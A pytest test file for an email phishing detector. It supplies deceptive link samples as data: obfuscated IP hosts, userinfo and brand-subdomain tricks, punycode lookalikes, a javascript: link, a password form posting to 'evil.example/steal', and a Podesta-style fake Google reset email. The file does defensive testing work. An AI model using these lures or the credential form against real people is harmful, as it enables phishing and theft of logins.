"""Links and forms (SECURITY.md PH-02, PH-06, P7–P9)."""

from __future__ import annotations

from pathlib import Path

import pytest
from assess_helpers import codes, findings, make_app, message

HEAD = "From: Alice <alice@example.com>\nTo: bob@ourcorp.com\nSubject: your account\n"


@pytest.fixture
def app(config_dir: Path):
    return make_app(config_dir)


@pytest.mark.parametrize(
    ("html", "code", "shown"),
    [
        ('<a href="http://paypa1-login.example.net/x">https://www.paypal.com/signin</a>', "link-mismatch", "paypa1-login.example.net"),
        ('<a href="http://198.51.100.7/">Your bank</a>', "link-ip", "198.51.100.7"),
        ('<a href="http://0xC6336407/">click</a>', "link-ip", "0xc6336407"),
        ('<a href="http://3325256711/">click</a>', "link-ip", "3325256711"),
        ('<a href="http://0306.0063.0144.07/">click</a>', "link-ip", "0306.0063.0144.07"),
        ('<a href="https://www.paypal.com@evil.example/">PayPal</a>', "link-userinfo", "evil.example"),
        ('<a href="https://paypal.com.evil.example/">PayPal</a>', "brand-subdomain", "evil.example"),
        ('<a href="javascript:alert(1)">open</a>', "link-scheme", "javascript"),
        ('<a href="https://www.xn--pypal-4ve.com/">log in</a>', "link-lookalike-domain", "xn--pypal-4ve.com"),
        ('<a href="https://198.51.100.7/">https://www.mybank.com/</a>', "link-mismatch", "198.51.100.7"),
    ],
)
def test_ph02_deceptive_links(app, html: str, code: str, shown: str) -> None:
    found = findings(app, message(HEAD, html=f"<p>Please check {html}</p>"))
    hit = [f for f in found if f.code == code or f.code == "link-" + code]
    assert hit, found
    assert hit[0].severity in ("warning", "danger")
    assert shown in hit[0].reason  # the real host is named


def test_link_text_same_site_is_fine(app) -> None:
    html = '<a href="https://www.example.com/a?b=c">www.example.com/a</a> <a href="https://docs.example.com/">read the docs</a>'
    assert codes(findings(app, message(HEAD, html=html)), "warning") == set()


def test_mismatch_naming_a_brand_is_danger(app) -> None:
    found = findings(app, message(HEAD, html='<a href="http://login.example.net/">www.paypal.com</a>'))
    assert [f.severity for f in found if f.code == "link-mismatch"] == ["danger"]


def test_plain_text_userinfo_link(app) -> None:
    found = findings(app, message(HEAD, body="Go to https://www.paypal.com@evil.example/login now\n"))
    assert "link-userinfo" in codes(found, "warning")


def test_shortener_is_noticed(app) -> None:
    found = findings(app, message(HEAD, body="see https://bit.ly/abc\n"))
    assert "link-shortener" in codes(found, "notice")


def test_ph_p9_form_and_password(app) -> None:
    form = '<form action="https://evil.example/steal"><input name=user><input type="password" name=pw></form>'
    assert "form-password" in codes(findings(app, message(HEAD, html=form)), "danger")
    form = '<form action="https://evil.example/steal"><input name=q></form>'
    assert "form" in codes(findings(app, message(HEAD, html=form)), "warning")


def test_ph06_podesta_style_message(app) -> None:
    raw = message(
        "From: Google <no-reply@accounts.googlemaiI.com>\nTo: bob@ourcorp.com\nSubject: Someone has your password\n",
        html=(
            "<p>Someone just used your password to try to sign in.</p>"
            '<a href="https://bit.ly/1PibSU0">CHANGE PASSWORD</a> '
            '<a href="http://myaccount.google.com-securitysettingpage.tk/security/signinoptions/password">'
            "https://myaccount.google.com/security</a>"
            '<a href="http://google.com.account-check.tk/">details</a>'
        ),
    )
    found = findings(app, raw)
    got = codes(found, "notice")
    assert {"lookalike-domain", "link-shortener", "link-mismatch", "link-brand-subdomain"} <= got, got
